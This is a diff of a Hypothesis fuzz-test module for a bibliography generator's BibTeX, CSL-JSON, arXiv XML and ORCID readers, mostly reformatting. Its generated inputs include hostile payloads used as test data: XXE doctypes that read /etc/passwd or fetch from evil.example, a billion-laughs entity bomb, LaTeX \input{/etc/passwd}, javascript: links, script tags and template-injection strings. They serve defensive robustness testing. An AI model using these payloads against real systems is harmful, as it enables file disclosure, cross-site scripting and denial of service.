@@ -16,10 +16,9 @@ from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from generator.diagnostics import Diagnostic, Level
-from generator.identifiers import find_arxiv_id, normalise_arxiv_id, normalise_doi, web_address
 from generator.model import DATE_PRECISIONS, PUB_TYPES
-from generator.readers import BibliographyDocument, read_text
-from generator.readers import arxiv, bibtex, csl, orcid
+from generator.model.identifiers import find_arxiv_id, normalise_arxiv_id, normalise_doi, web_address
+from generator.readers import BibliographyDocument, arxiv, bibtex, csl, orcid, read_text
 from generator.readers.base import clean
 from generator.readers.bibtex import _Decoder, common_latex_text
 from generator.readers.text import SourceText, decode, without_unsafe_characters
@@ -28,20 +27,90 @@ from tests.hostile_corpus import HOSTILE
 
 PROFILES = {"ci": 2000, "quick": 100}
 EXAMPLES = PROFILES[os.environ.get("PORTFOLIO_HYPOTHESIS", "ci")]
-PER_READER = settings(max_examples=EXAMPLES, deadline=None,
-                      suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+PER_READER = settings(
+    max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
+)
 
 # Pieces of the formats, right and nearly right, and payloads: what real and hostile files are made of.
 PIECES = [
-    r'{\"u}', r"\'e", r"{\ss}", r"\v{s}", r"\'{\i}", "--", "---", "``", "''", "{Capitals}", "$x^2$", r"$\mathcal{O}(n)$",
-    "$", "{", "}", "\\", "\\\\", "%", "&", "#", "~", "@", "@article{", ",", "=", '"', "\n", " and ", " and others", "*",
-    "∗", "$^\\dagger$", r"\textsuperscript{*}", "[A+] ", "[Re] ", r"\emph{", r"\href{javascript:x}{y}", r"\url{x}",
-    r"\input{/etc/passwd}", r"\char0", "javascript:alert(1)", " JaVaScRiPt:x", "data:text/html,x", "file:///etc/passwd",
-    "//evil.example", "https://doi.org/10.1/x", "http://dx.doi.org/10.5555/A%2FB", "doi:10.5555/abc", "10.5555/abc",
-    "arXiv:2301.01234", "2301.01234v2", "hep-th/9901001", "https://arxiv.org/abs/2301.01234", "cs.LG", "jan", "13",
-    "2023", "2023-05-17", "<script>pwned</script>", "<i>", "</i>", '<span class="nocase">', "{{ config }}", "{% raw %}",
-    "[x](javascript:y)", "Fu, Deqing", "Deqing Fu", "{van der} Berg, Anna", "King, Jr., Martin", "others", "\u202e",
-    "\u200b", "\x00", "\x1b[31m", "\r\n", "\t", "ü", "—",
+    r"{\"u}",
+    r"\'e",
+    r"{\ss}",
+    r"\v{s}",
+    r"\'{\i}",
+    "--",
+    "---",
+    "``",
+    "''",
+    "{Capitals}",
+    "$x^2$",
+    r"$\mathcal{O}(n)$",
+    "$",
+    "{",
+    "}",
+    "\\",
+    "\\\\",
+    "%",
+    "&",
+    "#",
+    "~",
+    "@",
+    "@article{",
+    ",",
+    "=",
+    '"',
+    "\n",
+    " and ",
+    " and others",
+    "*",
+    "∗",
+    "$^\\dagger$",
+    r"\textsuperscript{*}",
+    "[A+] ",
+    "[Re] ",
+    r"\emph{",
+    r"\href{javascript:x}{y}",
+    r"\url{x}",
+    r"\input{/etc/passwd}",
+    r"\char0",
+    "javascript:alert(1)",
+    " JaVaScRiPt:x",
+    "data:text/html,x",
+    "file:///etc/passwd",
+    "//evil.example",
+    "https://doi.org/10.1/x",
+    "http://dx.doi.org/10.5555/A%2FB",
+    "doi:10.5555/abc",
+    "10.5555/abc",
+    "arXiv:2301.01234",
+    "2301.01234v2",
+    "hep-th/9901001",
+    "https://arxiv.org/abs/2301.01234",
+    "cs.LG",
+    "jan",
+    "13",
+    "2023",
+    "2023-05-17",
+    "<script>pwned</script>",
+    "<i>",
+    "</i>",
+    '<span class="nocase">',
+    "{{ config }}",
+    "{% raw %}",
+    "[x](javascript:y)",
+    "Fu, Deqing",
+    "Deqing Fu",
+    "{van der} Berg, Anna",
+    "King, Jr., Martin",
+    "others",
+    "\u202e",
+    "\u200b",
+    "\x00",
+    "\x1b[31m",
+    "\r\n",
+    "\t",
+    "ü",
+    "—",
 ]
 piece = st.one_of(st.sampled_from(PIECES), st.text(max_size=8))
 value = st.lists(piece, max_size=8).map("".join)
@@ -49,6 +118,7 @@ value = st.lists(piece, max_size=8).map("".join)
 
 def corrupted(strategy):
     """Text from `strategy`, sometimes cut short or with a few characters inserted or deleted."""
+
     @st.composite
     def build(draw):
         text = draw(strategy)
@@ -57,115 +127,305 @@ def corrupted(strategy):
                 break
             at = draw(st.integers(0, len(text)))
             if draw(st.booleans()):
-                text = text[:at] + draw(st.sampled_from(["{", "}", '"', ",", "[", "]", "<", ">", "&", "\\", "\n"])) + text[at:]
+                text = (
+                    text[:at]
+                    + draw(st.sampled_from(["{", "}", '"', ",", "[", "]", "<", ">", "&", "\\", "\n"]))
+                    + text[at:]
+                )
             else:
-                text = text[:at] + text[at + 1:]
+                text = text[:at] + text[at + 1 :]
         return text[: draw(st.integers(0, len(text)))] if draw(st.integers(0, 4)) == 0 else text
+
     return build()
 
 
 # BibTeX ------------------------------------------------------------------------------------------------
 
-BIB_TYPES = ["article", "inproceedings", "misc", "book", "phdthesis", "techreport", "incollection", "proceedings",
-             "unpublished", "online", "weird", "STRING", "string", "comment", "preamble", "Article"]
-BIB_FIELDS = ["title", "Title", "author", "editor", "year", "month", "date", "journal", "booktitle", "publisher",
-              "doi", "url", "pdf", "code", "html", "website", "eprint", "archivePrefix", "primaryClass", "keywords",
-              "abstract", "note", "crossref", "howpublished", "arxiv", "volume", "eprinttype", "school", "x y"]
-bib_value = st.one_of(value.map(lambda v: "{" + v + "}"), value.map(lambda v: f'"{v}"'), value,
-                      st.sampled_from(["jan", "nips", "2020", 'conf # " x"', 'jan # "~1"', "{a} # {b}", "undefined"]))
-bib_entry = st.builds(
-    lambda kind, key, fields, closed: f"@{kind}{{{key},\n" + ",\n".join(f"  {n} = {v}" for n, v in fields) + ("\n}" if closed else ""),
-    st.sampled_from(BIB_TYPES), st.sampled_from(["k", "k2", "fu2024", "a b", "", "dup", "{x}"]),
-    st.lists(st.tuples(st.sampled_from(BIB_FIELDS), bib_value), max_size=8), st.booleans(),
+BIB_TYPES = [
+    "article",
+    "inproceedings",
+    "misc",
+    "book",
+    "phdthesis",
+    "techreport",
+    "incollection",
+    "proceedings",
+    "unpublished",
+    "online",
+    "weird",
+    "STRING",
+    "string",
+    "comment",
+    "preamble",
+    "Article",
+]
+BIB_FIELDS = [
+    "title",
+    "Title",
+    "author",
+    "editor",
+    "year",
+    "month",
+    "date",
+    "journal",
+    "booktitle",
+    "publisher",
+    "doi",
+    "url",
+    "pdf",
+    "code",
+    "html",
+    "website",
+    "eprint",
+    "archivePrefix",
+    "primaryClass",
+    "keywords",
+    "abstract",
+    "note",
+    "crossref",
+    "howpublished",
+    "arxiv",
+    "volume",
+    "eprinttype",
+    "school",
+    "x y",
+]
+bib_value = st.one_of(
+    value.map(lambda v: "{" + v + "}"),
+    value.map(lambda v: f'"{v}"'),
+    value,
+    st.sampled_from(["jan", "nips", "2020", 'conf # " x"', 'jan # "~1"', "{a} # {b}", "undefined"]),
 )
-bib_text = corrupted(st.lists(st.one_of(bib_entry, st.sampled_from([
-    "% comment", '@string{nips = "NeurIPS"}', '@string{conf = nips # " 2023"}', "junk text", "@comment{x}",
-    '@preamble{"x"}', "@article{crossref, title = {Volume}, year = 2020}",
-])), max_size=6).map("\n\n".join))
+bib_entry = st.builds(
+    lambda kind, key, fields, closed: (
+        f"@{kind}{{{key},\n" + ",\n".join(f"  {n} = {v}" for n, v in fields) + ("\n}" if closed else "")
+    ),
+    st.sampled_from(BIB_TYPES),
+    st.sampled_from(["k", "k2", "fu2024", "a b", "", "dup", "{x}"]),
+    st.lists(st.tuples(st.sampled_from(BIB_FIELDS), bib_value), max_size=8),
+    st.booleans(),
+)
+bib_text = corrupted(
+    st.lists(
+        st.one_of(
+            bib_entry,
+            st.sampled_from(
+                [
+                    "% comment",
+                    '@string{nips = "NeurIPS"}',
+                    '@string{conf = nips # " 2023"}',
+                    "junk text",
+                    "@comment{x}",
+                    '@preamble{"x"}',
+                    "@article{crossref, title = {Volume}, year = 2020}",
+                ]
+            ),
+        ),
+        max_size=6,
+    ).map("\n\n".join)
+)
 
 # CSL-JSON ----------------------------------------------------------------------------------------------
 
-json_scalar = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False, allow_infinity=False),
-                        st.text(max_size=12), st.sampled_from(PIECES))
-json_value = st.recursive(json_scalar, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner, max_size=4),
-                          max_leaves=12)
+json_scalar = st.one_of(
+    st.none(),
+    st.booleans(),
+    st.integers(),
+    st.floats(allow_nan=False, allow_infinity=False),
+    st.text(max_size=12),
+    st.sampled_from(PIECES),
+)
+json_value = st.recursive(
+    json_scalar,
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner, max_size=4),
+    max_leaves=12,
+)
 text_or_any = st.one_of(value, json_value)
-csl_person = st.one_of(st.fixed_dictionaries({}, optional={
-    "family": text_or_any, "given": text_or_any, "literal": text_or_any, "non-dropping-particle": value,
-    "dropping-particle": value, "suffix": value}), json_value)
-csl_date = st.one_of(st.fixed_dictionaries({}, optional={
-    "date-parts": st.lists(st.lists(st.one_of(st.integers(-5, 10_000), st.text(max_size=5)), max_size=4), max_size=2),
-    "date_parts": st.lists(st.lists(st.integers(0, 3000), max_size=3), max_size=1), "raw": value, "literal": value}),
-    json_value)
-csl_item = st.fixed_dictionaries({}, optional={
-    "id": text_or_any, "citation-key": text_or_any, "title": text_or_any, "author": st.lists(csl_person, max_size=5) | json_value,
-    "issued": csl_date, "DOI": text_or_any, "URL": text_or_any, "container-title": text_or_any | st.lists(value, max_size=2),
-    "publisher": text_or_any, "abstract": text_or_any, "keyword": text_or_any | st.lists(value, max_size=3),
-    "note": text_or_any, "number": text_or_any, "archive_location": text_or_any,
-    "type": st.sampled_from(["article-journal", "paper-conference", "article", "book", "chapter", "thesis", "report",
-                             "webpage", "x"]) | json_value,
-})
-csl_text = corrupted(st.builds(
-    lambda document, indent: json.dumps(document, indent=indent, ensure_ascii=False),
-    st.one_of(st.lists(st.one_of(csl_item, json_value), max_size=5), csl_item),
-    st.sampled_from([None, 1, 2, "\t"]),
-))
+csl_person = st.one_of(
+    st.fixed_dictionaries(
+        {},
+        optional={
+            "family": text_or_any,
+            "given": text_or_any,
+            "literal": text_or_any,
+            "non-dropping-particle": value,
+            "dropping-particle": value,
+            "suffix": value,
+        },
+    ),
+    json_value,
+)
+csl_date = st.one_of(
+    st.fixed_dictionaries(
+        {},
+        optional={
+            "date-parts": st.lists(
+                st.lists(st.one_of(st.integers(-5, 10_000), st.text(max_size=5)), max_size=4), max_size=2
+            ),
+            "date_parts": st.lists(st.lists(st.integers(0, 3000), max_size=3), max_size=1),
+            "raw": value,
+            "literal": value,
+        },
+    ),
+    json_value,
+)
+csl_item = st.fixed_dictionaries(
+    {},
+    optional={
+        "id": text_or_any,
+        "citation-key": text_or_any,
+        "title": text_or_any,
+        "author": st.lists(csl_person, max_size=5) | json_value,
+        "issued": csl_date,
+        "DOI": text_or_any,
+        "URL": text_or_any,
+        "container-title": text_or_any | st.lists(value, max_size=2),
+        "publisher": text_or_any,
+        "abstract": text_or_any,
+        "keyword": text_or_any | st.lists(value, max_size=3),
+        "note": text_or_any,
+        "number": text_or_any,
+        "archive_location": text_or_any,
+        "type": st.sampled_from(
+            ["article-journal", "paper-conference", "article", "book", "chapter", "thesis", "report", "webpage", "x"]
+        )
+        | json_value,
+    },
+)
+csl_text = corrupted(
+    st.builds(
+        lambda document, indent: json.dumps(document, indent=indent, ensure_ascii=False),
+        st.one_of(st.lists(st.one_of(csl_item, json_value), max_size=5), csl_item),
+        st.sampled_from([None, 1, 2, "\t"]),
+    )
+)
 
 # arXiv API responses -----------------------------------------------------------------------------------
 
-xml_text = st.one_of(value.map(escape), value, st.sampled_from([
-    "<![CDATA[<script>pwned</script>]]>", "&amp;", "&lt;", "&foo;", "&#0;", "&#x110000;", "&#65;", "<b>x</b>", "<!-- c -->"]))
-xml_element = st.builds(lambda name, text: f"<{name}>{text}</{name}>", st.sampled_from(
-    ["id", "title", "summary", "published", "updated", "arxiv:doi", "arxiv:journal_ref", "arxiv:comment", "name"]), xml_text)
-xml_link = st.builds(lambda rel, title, href: f'<link rel="{rel}" title="{title}" href="{escape(href, {chr(34): "&quot;"})}"/>',
-                     st.sampled_from(["alternate", "related", ""]), st.sampled_from(["pdf", "doi", ""]), value)
-xml_entry = st.lists(st.one_of(xml_element, xml_link, xml_text, st.builds(
-    lambda term: f'<arxiv:primary_category term="{escape(term, {chr(34): "&quot;"})}"/>', value),
-    st.builds(lambda name: f"<author><name>{name}</name></author>", xml_text)), max_size=8).map(
-    lambda parts: "<entry>" + "".join(parts) + "</entry>")
-arxiv_text = corrupted(st.builds(
-    lambda prolog, entries: f'{prolog}<feed xmlns="http://www.w3.org/2005/Atom" xmlns:arxiv="http://arxiv.org/schemas/atom">'
-                            f"<title>arXiv</title>{''.join(entries)}</feed>",
-    st.sampled_from(['<?xml version="1.0" encoding="UTF-8"?>\n', "", '<?xml version="1.0" encoding="ISO-8859-1"?>\n',
-                     '<!DOCTYPE feed [<!ENTITY x "pwned">]>\n', '<!DOCTYPE feed SYSTEM "file:///etc/passwd">\n',
-                     '<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>\n']),
-    st.lists(xml_entry, max_size=4),
-))
+xml_text = st.one_of(
+    value.map(escape),
+    value,
+    st.sampled_from(
+        [
+            "<![CDATA[<script>pwned</script>]]>",
+            "&amp;",
+            "&lt;",
+            "&foo;",
+            "&#0;",
+            "&#x110000;",
+            "&#65;",
+            "<b>x</b>",
+            "<!-- c -->",
+        ]
+    ),
+)
+xml_element = st.builds(
+    lambda name, text: f"<{name}>{text}</{name}>",
+    st.sampled_from(
+        ["id", "title", "summary", "published", "updated", "arxiv:doi", "arxiv:journal_ref", "arxiv:comment", "name"]
+    ),
+    xml_text,
+)
+xml_link = st.builds(
+    lambda rel, title, href: f'<link rel="{rel}" title="{title}" href="{escape(href, {chr(34): "&quot;"})}"/>',
+    st.sampled_from(["alternate", "related", ""]),
+    st.sampled_from(["pdf", "doi", ""]),
+    value,
+)
+xml_entry = st.lists(
+    st.one_of(
+        xml_element,
+        xml_link,
+        xml_text,
+        st.builds(lambda term: f'<arxiv:primary_category term="{escape(term, {chr(34): "&quot;"})}"/>', value),
+        st.builds(lambda name: f"<author><name>{name}</name></author>", xml_text),
+    ),
+    max_size=8,
+).map(lambda parts: "<entry>" + "".join(parts) + "</entry>")
+arxiv_text = corrupted(
+    st.builds(
+        lambda prolog, entries: (
+            f'{prolog}<feed xmlns="http://www.w3.org/2005/Atom" xmlns:arxiv="http://arxiv.org/schemas/atom">'
+            f"<title>arXiv</title>{''.join(entries)}</feed>"
+        ),
+        st.sampled_from(
+            [
+                '<?xml version="1.0" encoding="UTF-8"?>\n',
+                "",
+                '<?xml version="1.0" encoding="ISO-8859-1"?>\n',
+                '<!DOCTYPE feed [<!ENTITY x "pwned">]>\n',
+                '<!DOCTYPE feed SYSTEM "file:///etc/passwd">\n',
+                '<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>\n',
+            ]
+        ),
+        st.lists(xml_entry, max_size=4),
+    )
+)
 
 # ORCID works -------------------------------------------------------------------------------------------
 
 wrapped = st.one_of(st.builds(lambda v: {"value": v}, text_or_any), json_value)
 orcid_id = st.sampled_from(["0000-0002-1825-0097", "0000-0002-1825-0098", "0000-0002-9079-593X", "x", ""])
-orcid_external = st.fixed_dictionaries({}, optional={
-    "external-id-type": st.sampled_from(["doi", "arxiv", "uri", "issn", "DOI"]) | json_value,
-    "external-id-value": text_or_any, "external-id-normalized": wrapped,
-    "external-id-relationship": st.sampled_from(["self", "part-of", "version-of"]) | json_value})
-orcid_summary = st.fixed_dictionaries({}, optional={
-    "put-code": st.integers() | json_value, "title": st.one_of(st.builds(lambda w: {"title": w}, wrapped), json_value),
-    "type": st.sampled_from(["journal-article", "conference-paper", "preprint", "book-chapter", "other"]) | json_value,
-    "publication-date": st.one_of(st.fixed_dictionaries({}, optional={"year": wrapped, "month": wrapped, "day": wrapped}), json_value),
-    "journal-title": wrapped, "url": wrapped, "display-index": text_or_any,
-    "external-ids": st.builds(lambda ids: {"external-id": ids}, st.lists(orcid_external, max_size=3)) | json_value,
-    "path": st.builds(lambda i, n: f"/{i}/work/{n}", orcid_id, st.integers(0, 99)) | json_value,
-})
-orcid_group = st.fixed_dictionaries({}, optional={
-    "work-summary": st.lists(orcid_summary, max_size=3) | json_value,
-    "external-ids": st.builds(lambda ids: {"external-id": ids}, st.lists(orcid_external, max_size=3)) | json_value})
-orcid_text = corrupted(st.builds(
-    lambda groups, owner, indent: json.dumps({"last-modified-date": None, "group": groups, "path": f"/{owner}/works"},
-                                             indent=indent, ensure_ascii=False),
-    st.lists(orcid_group, max_size=4) | json_value, orcid_id, st.sampled_from([None, 2])))
+orcid_external = st.fixed_dictionaries(
+    {},
+    optional={
+        "external-id-type": st.sampled_from(["doi", "arxiv", "uri", "issn", "DOI"]) | json_value,
+        "external-id-value": text_or_any,
+        "external-id-normalized": wrapped,
+        "external-id-relationship": st.sampled_from(["self", "part-of", "version-of"]) | json_value,
+    },
+)
+orcid_summary = st.fixed_dictionaries(
+    {},
+    optional={
+        "put-code": st.integers() | json_value,
+        "title": st.one_of(st.builds(lambda w: {"title": w}, wrapped), json_value),
+        "type": st.sampled_from(["journal-article", "conference-paper", "preprint", "book-chapter", "other"])
+        | json_value,
+        "publication-date": st.one_of(
+            st.fixed_dictionaries({}, optional={"year": wrapped, "month": wrapped, "day": wrapped}), json_value
+        ),
+        "journal-title": wrapped,
+        "url": wrapped,
+        "display-index": text_or_any,
+        "external-ids": st.builds(lambda ids: {"external-id": ids}, st.lists(orcid_external, max_size=3)) | json_value,
+        "path": st.builds(lambda i, n: f"/{i}/work/{n}", orcid_id, st.integers(0, 99)) | json_value,
+    },
+)
+orcid_group = st.fixed_dictionaries(
+    {},
+    optional={
+        "work-summary": st.lists(orcid_summary, max_size=3) | json_value,
+        "external-ids": st.builds(lambda ids: {"external-id": ids}, st.lists(orcid_external, max_size=3)) | json_value,
+    },
+)
+orcid_text = corrupted(
+    st.builds(
+        lambda groups, owner, indent: json.dumps(
+            {"last-modified-date": None, "group": groups, "path": f"/{owner}/works"}, indent=indent, ensure_ascii=False
+        ),
+        st.lists(orcid_group, max_size=4) | json_value,
+        orcid_id,
+        st.sampled_from([None, 2]),
+    )
+)
 
 # Inputs of every kind ----------------------------------------------------------------------------------
 
-BIBLIOGRAPHY_FILES = [path.read_bytes() for path in sorted([
-    *(p for p in SOURCES.iterdir() if p.suffix in (".bib", ".json", ".xml")),
-    *(p for p in HOSTILE.iterdir() if p.suffix in (".bib", ".json", ".xml"))])]
+BIBLIOGRAPHY_FILES = [
+    path.read_bytes()
+    for path in sorted(
+        [
+            *(p for p in SOURCES.iterdir() if p.suffix in (".bib", ".json", ".xml")),
+            *(p for p in HOSTILE.iterdir() if p.suffix in (".bib", ".json", ".xml")),
+        ]
+    )
+]
 
 
 @st.composite
 def mutated(draw) -> bytes:
-    """One of our bibliography fixtures with a few random edits: lines cut, repeated, swapped, replaced; bytes inserted."""
+    """One of our bibliography fixtures with a few random edits: lines cut, repeated, swapped or replaced."""
     lines = draw(st.sampled_from(BIBLIOGRAPHY_FILES)).split(b"\n")
     for _ in range(draw(st.integers(0, 5))):
         if not lines:
@@ -173,9 +433,9 @@ def mutated(draw) -> bytes:
         at = draw(st.integers(0, len(lines) - 1))
         edit = draw(st.sampled_from(["cut", "repeat", "swap", "replace", "insert"]))
         if edit == "cut":
-            del lines[at:at + draw(st.integers(1, 6))]
+            del lines[at : at + draw(st.integers(1, 6))]
         elif edit == "repeat":
-            lines[at:at] = lines[at:at + draw(st.integers(1, 6))]
+            lines[at:at] = lines[at : at + draw(st.integers(1, 6))]
         elif edit == "swap":
             other = draw(st.integers(0, len(lines) - 1))
             lines[at], lines[other] = lines[other], lines[at]
@@ -190,8 +450,12 @@ def mutated(draw) -> bytes:
 
 def inputs(shaped) -> st.SearchStrategy[bytes]:
     """What a reader may be handed: its own format, mutated fixtures, any text, any bytes."""
-    return st.one_of(shaped.map(lambda text: text.encode("utf-8", "surrogatepass")), mutated(),
-                     st.text(max_size=600).map(lambda t: t.encode("utf-8", "surrogatepass")), st.binary(max_size=600))
+    return st.one_of(
+        shaped.map(lambda text: text.encode("utf-8", "surrogatepass")),
+        mutated(),
+        st.text(max_size=600).map(lambda t: t.encode("utf-8", "surrogatepass")),
+        st.binary(max_size=600),
+    )
 
 
 # Checks ------------------------------------------------------------------------------------------------
@@ -206,7 +470,11 @@ def check_paper(paper, source: SourceText) -> None:
     for name in paper.authors or []:
         check_text(name)
     assert paper.authors is None or paper.authors  # never an empty list
-    assert set(paper.authors_marked) <= set(paper.authors or []) and set(paper.authors_marked.values()) <= {"*", "†", "‡"}
+    assert set(paper.authors_marked) <= set(paper.authors or []) and set(paper.authors_marked.values()) <= {
+        "*",
+        "†",
+        "‡",
+    }
     for text in (paper.abstract, paper.venue, paper.note, paper.citation_key, paper.arxiv_category, *paper.keywords):
         if text is not None:
             check_text(text)
@@ -249,7 +517,7 @@ def read_with(reader, data: bytes, name: str) -> None:
 @given(inputs(bib_text))
 @example(b"@article{k, title = {" + b"{" * 5000 + b"deep" + b"}" * 5000 + b"}}")
 @example(b"@article{k, title = {\\emph" + b"{" * 2000 + b"x" + b"}" * 2000 + b"}}")
-@example(b'@string{a = b # a}\n@string{b = a # b}\n@misc{k, title = a}')  # macros that name each other
+@example(b"@string{a = b # a}\n@string{b = a # b}\n@misc{k, title = a}")  # macros that name each other
 @example(b"@misc{k, title = {x}, author = {, and ,,, and {}}}")
 @example(b'@article{,\n  title = {{\\"u}}\n}')  # found by Hypothesis: an empty key is no key
 def test_the_bibtex_reader_never_raises(data):
@@ -268,7 +536,9 @@ def test_the_csl_reader_never_raises(data):
 
 @PER_READER
 @given(inputs(arxiv_text))
-@example(b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><feed xmlns="http://www.w3.org/2005/Atom">&lol2;</feed>')
+@example(
+    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><feed xmlns="http://www.w3.org/2005/Atom">&lol2;</feed>'
+)
 @example(b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&#x7f;&#x202e;x</title></entry></feed>')
 def test_the_arxiv_reader_never_raises(data):
     read_with(arxiv, data, "input.xml")
@@ -296,10 +566,65 @@ def test_sniffing_and_reading_bibliographies_never_raise(data):
 
 # The common-LaTeX fast path reads what pylatexenc reads ---------------------------------------------------
 
-LATEX_PIECES = [r'\"', r"\'", "\\`", r"\^", r"\~", r"\=", r"\.", r"\v ", r"\u", r"\H", r"\c ", r"\k", r"\r ", "{", "}",
-                "a", "E", "i", r"\i", r"\j", r"\ss", r"\o", r"\ae", r"\L", r"\th", " ", "  ", "-", "--", "---", "`", "'",
-                "''", "``", "!", "?", "~", r"\&", r"\%", r"\_", r"\#", r"\{", r"\}", r"\$", "$", "x", "^", "_",
-                r"\alpha", "1", "ü", "\n", r"\aa{}", "{}", r"\emph", r"\textbf{", "\\\\"]
+LATEX_PIECES = [
+    r"\"",
+    r"\'",
+    "\\`",
+    r"\^",
+    r"\~",
+    r"\=",
+    r"\.",
+    r"\v ",
+    r"\u",
+    r"\H",
+    r"\c ",
+    r"\k",
+    r"\r ",
+    "{",
+    "}",
+    "a",
+    "E",
+    "i",
+    r"\i",
+    r"\j",
+    r"\ss",
+    r"\o",
+    r"\ae",
+    r"\L",
+    r"\th",
+    " ",
+    "  ",
+    "-",
+    "--",
+    "---",
+    "`",
+    "'",
+    "''",
+    "``",
+    "!",
+    "?",
+    "~",
+    r"\&",
+    r"\%",
+    r"\_",
+    r"\#",
+    r"\{",
+    r"\}",
+    r"\$",
+    "$",
+    "x",
+    "^",
+    "_",
+    r"\alpha",
+    "1",
+    "ü",
+    "\n",
+    r"\aa{}",
+    "{}",
+    r"\emph",
+    r"\textbf{",
+    "\\\\",
+]
 DECODER = _Decoder()
 
 
